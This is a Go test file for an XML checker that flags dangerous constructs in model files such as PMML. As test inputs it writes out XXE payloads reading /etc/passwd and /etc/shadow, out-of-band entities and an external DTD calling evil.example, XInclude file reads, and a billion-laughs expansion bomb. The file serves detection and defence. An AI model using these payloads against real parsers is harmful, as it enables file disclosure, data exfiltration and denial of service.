package xmlx

import (
	"errors"
	"strings"
	"testing"
)

func check(t *testing.T, doc string) (*Doc, error) {
	t.Helper()
	return Check(strings.NewReader(doc), int64(len(doc)), Limits{})
}

const pmmlBody = `<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="x" description="linear model"><Application name="sklearn2pmml" version="0.1"/></Header>
  <DataDictionary numberOfFields="2">
    <DataField name="x" optype="continuous" dataType="double"/>
    <DataField name="y" optype="continuous" dataType="double"/>
  </DataDictionary>
  <RegressionModel functionName="regression">
    <MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema>
    <RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable>
  </RegressionModel>
</PMML>
`

func TestBenign(t *testing.T) {
	t.Parallel()
	for name, doc := range map[string]string{
		"pmml":           `<?xml version="1.0" encoding="UTF-8"?>` + "\n" + pmmlBody,
		"pmml latin-1":   `<?xml version="1.0" encoding="ISO-8859-1"?>` + "\n" + pmmlBody,
		"openvino":       `<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer></layers><edges/></net>`,
		"predefined ent": `<?xml version="1.0"?><PMML><Header description="a &lt; b &amp; &#169;"/></PMML>`,
		// An internal DOCTYPE with a small entity is legal and harmless.
		"small entity": `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY v "4.4"><!ELEMENT PMML ANY><!ATTLIST PMML version CDATA #IMPLIED>]><PMML version="&v;"/>`,
	} {
		d, err := check(t, doc)
		if err != nil || len(d.Issues) != 0 {
			t.Errorf("%s: err %v issues %+v", name, err, d.Issues)
		}
	}
	d, _ := check(t, pmmlBody)
	if d.Root != "PMML" {
		t.Errorf("root %q", d.Root)
	}
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
		`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`
	for i := 2; i <= 9; i++ {
		laughs += `<!ENTITY lol` + string(rune('0'+i)) + ` "` + strings.Repeat(`&lol`+string(rune('0'+i-1))+`;`, 10) + `">`
	}
	laughs += `]><PMML>&lol9;</PMML>`
	cases := []struct {
		name, doc string
		kind      Kind
		want      string
	}{
		{"external entity file", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><PMML><Header description="&xxe;"/></PMML>`, External, "file:///etc/passwd"},
		{"external entity http public", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x PUBLIC "-//x//EN" "http://evil.example/x">]><PMML>&x;</PMML>`, External, "http://evil.example/x"},
		{"parameter entity OOB", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd"> %dtd;]><PMML/>`, External, "%dtd"},
		{"internal parameter entity", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p "<!ENTITY x 'y'>"> %p;]><PMML/>`, External, "%p"},
		{"external DTD", `<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://evil.example/pmml.dtd"><PMML/>`, External, "http://evil.example/pmml.dtd"},
		{"xinclude", `<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/shadow" parse="text"/></PMML>`, XInclude, "file:///etc/shadow"},
		{"xinclude other prefix", `<?xml version="1.0"?><PMML><inc:include xmlns:inc="http://www.w3.org/2001/XInclude" href="/etc/hosts"/></PMML>`, XInclude, "/etc/hosts"},
		{"billion laughs", laughs, Expansion, "lol9"},
		{"self reference", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]><PMML/>`, Expansion, "a"},
		{"quadratic blowup", `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "` + strings.Repeat("x", 20000) + `">]><PMML>` + strings.Repeat("&a;", 0) + `</PMML>`, -1, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			d, err := check(t, c.doc)
			if err != nil {
				t.Fatalf("err %v", err)
			}
			if c.kind < 0 {
				if len(d.Issues) != 0 {
					t.Fatalf("issues %+v", d.Issues)
				}
				return
			}
			for _, is := range d.Issues {
				if is.Kind == c.kind && (is.Name == c.want || strings.Contains(is.Detail, c.want)) {
					return
				}
			}
			t.Fatalf("no kind %d naming %q in %+v", c.kind, c.want, d.Issues)
		})
	}
}

func TestLimitsAndErrors(t *testing.T) {
	t.Parallel()
	deep := `<?xml version="1.0"?>` + strings.Repeat("<a>", 20000) + strings.Repeat("</a>", 20000)
	if _, err := check(t, deep); !errors.Is(err, ErrLimit) {
		t.Errorf("deep: %v", err)
	}
	many := `<?xml version="1.0"?><!DOCTYPE r [` + strings.Repeat(`<!ENTITY e "x">`, 5) + `]><r/>`
	if _, err := Check(strings.NewReader(many), int64(len(many)), Limits{MaxEntities: 3}); !errors.Is(err, ErrLimit) {
		t.Errorf("entities: %v", err)
	}
	for name, doc := range map[string]string{
		"unclosed":        `<?xml version="1.0"?><PMML><Header>`,
		"mismatch":        `<?xml version="1.0"?><PMML></Header>`,
		"undeclared ent":  `<?xml version="1.0"?><PMML>&nope;</PMML>`,
		"bad doctype":     `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM>]><PMML/>`,
		"utf-16 declared": `<?xml version="1.0" encoding="UTF-16"?><PMML/>`,
		"empty":           ``,
	} {
		if _, err := check(t, doc); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	// Issues found before an error are kept.
	d, err := check(t, `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><PMML>`)
	if err == nil || len(d.Issues) != 1 {
		t.Errorf("truncated XXE: err %v issues %+v", err, d.Issues)
	}
}

func TestLooks(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]bool{
		`<?xml version="1.0"?><PMML/>`:   true,
		"\ufeff  <?xml version='1.0'?>":  true,
		`<!DOCTYPE PMML [ ]><PMML/>`:     true,
		`<PMML version="4.4">`:           true,
		`<!DOCTYPE html><html></html>`:   false,
		`<html><body>hi</body></html>`:   false,
		`{"a": 1}`:                       false,
		`<?xml-stylesheet href="x"?>`:    false,
		"# title\n<?xml version='1.0'?>": false,
	} {
		if got := Looks([]byte(s)); got != want {
			t.Errorf("Looks(%q) = %v", s, got)
		}
	}
}
